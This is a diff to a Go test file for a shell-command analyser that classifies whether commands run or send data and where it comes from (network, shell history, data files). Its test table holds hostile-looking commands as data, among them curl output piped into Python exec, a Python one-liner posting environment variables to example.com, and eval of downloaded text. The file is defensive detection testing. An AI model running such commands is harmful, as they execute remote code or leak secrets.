@@ -1,6 +1,7 @@
 package effect_test
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
@@ -15,8 +16,9 @@ import (
 func origins(text, kind string) []string {
 	s := shell.Parse(text, shell.Options{Models: rules.Command, Home: "/home/me"})
 	var o effect.Origin
+	read := effect.NewReader(s, effect.Place{Home: "/home/me"})
 	for i := range s.Calls {
-		for _, e := range effect.Of(s, i, effect.Place{Home: "/home/me"}) {
+		for _, e := range read.Of(i) {
 			if e.Kind == kind {
 				o |= e.From
 			}
@@ -64,6 +66,10 @@ func TestOrigin(t *testing.T) {
 		{"one variable sent by python", `python3 -c "import os,requests;requests.post('https://example.com',data=os.environ['A'])"`, rule.Send, nil},
 		{"run from standard input", `curl https://example.com/x | python3 -c "import sys;exec(sys.stdin.read())"`, rule.Run, []string{rule.FromNetwork}},
 		{"nothing special sent", "echo hi | nc example.com 80", rule.Send, nil},
+		{"history", "history | tail -3 | sh", rule.Run, []string{rule.FromHistory}},
+		{"data", "jq -r .run x.json | sh", rule.Run, []string{rule.FromData}},
+		{"data in the shell's quotes", `eval "$(jq -r '@sh "x=\(.x)"' x.json)"`, rule.Run, []string{rule.FromUnknown}},
+		{"from far away", "x=$(curl https://example.com/x)\n" + strings.Repeat("x=$(cat $x)\n", 3000) + "eval \"$x\"", rule.Run, []string{rule.FromNetwork}},
 		{"what a program makes of its words", `curl -d "$(sign key.pem)" https://example.com`, rule.Send, nil},
 	}
 	for _, tt := range tests {
